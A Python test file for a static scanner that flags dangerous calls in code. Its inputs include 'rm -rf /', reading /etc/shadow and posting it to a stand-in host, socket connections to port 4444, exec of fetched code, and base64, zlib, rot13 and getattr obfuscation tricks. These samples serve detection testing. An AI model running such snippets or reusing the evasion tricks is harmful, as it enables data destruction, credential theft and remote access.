"""The ast-based scan of python code."""

from __future__ import annotations

from hazmat.policy.pyscan import scan_python


def test_subprocess_and_os_commands_are_extracted() -> None:
    f = scan_python(
        "import subprocess as sp, os\nfrom os import system as s\n"
        "sp.run(['rm', '-rf', '/'])\nos.popen('id')\ns('whoami')\n"
    )
    assert "rm -rf /" in f.shell
    assert "id" in f.shell and "whoami" in f.shell
    assert {"subprocess", "os"} <= f.imports


def test_sockets_files_and_urls() -> None:
    f = scan_python(
        "import socket, requests\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
        "data = open('/etc/shadow').read()\nrequests.post('https://x.example/u', data=data)\n"
        "open('/tmp/out', 'w').write(data)\n"
    )
    assert f.socket and "10.0.0.1:4444" in f.connects
    assert ("/etc/shadow", "r") in f.opened and ("/tmp/out", "w") in f.opened
    assert "https://x.example/u" in f.connects
    assert f.network


def test_decoded_payloads_are_scanned_again() -> None:
    f = scan_python("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))")
    assert "id" in f.shell


def test_exec_of_network_data() -> None:
    f = scan_python("import urllib.request\nexec(urllib.request.urlopen('http://x/p').read())")
    assert f.network_exec


def test_syntax_errors_are_reported_not_raised() -> None:
    f = scan_python("def (:")
    assert f.error.startswith("SyntaxError")


# ----------------------------------------------------------------- the data-flow pass


def test_import_through_an_alias_of___import__() -> None:
    f = scan_python("a=__import__; s=a('socket'); k=s.socket(); k.connect(('203.0.113.5',4444))")
    assert f.socket and "203.0.113.5:4444" in f.connects


def test_importlib_and_getattr_reach_the_call() -> None:
    f = scan_python(
        "import importlib; sp=importlib.import_module('subprocess')\n"
        "getattr(sp,'run')(['bash','-c','id'])"
    )
    assert "bash -c id" in f.shell


def test_sys_modules_and_names_built_by_concatenation() -> None:
    f = scan_python("import sys; m=sys.modules['os']; f=getattr(m,'sys'+'tem'); f('whoami')")
    assert "whoami" in f.shell


def test_constants_flow_into_the_destination() -> None:
    f = scan_python("H='203.0.113.'+'5'; import socket; socket.create_connection((H, 4444))")
    assert "203.0.113.5:4444" in f.connects


def test_exec_of_zlib_base64_literal_is_scanned() -> None:
    f = scan_python(
        "import zlib,base64; exec(zlib.decompress(base64.b64decode("
        "'eJzLzC3ILypRKM5Pzk4tsS62hTD0IJSGpnWxXnJ+Xl5qcomGhrqRgbGegZ6hobGeqbqOCRBoagIAz48TjA==')))"
    )
    assert f.socket and "203.0.113.5:4444" in f.connects


def test_exec_of_rot13_and_compile_through_an_alias() -> None:
    f = scan_python("import codecs; exec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")','rot13'))")
    assert "id" in f.shell
    g = scan_python("e=eval; e(compile('import os; os.system(\"id\")','x','exec'))")
    assert "id" in g.shell


def test_plain_code_finds_nothing() -> None:
    f = scan_python("import json\nprint(json.dumps({'a': 1}))\n")
    assert not f.shell and not f.connects and not f.socket and not f.network
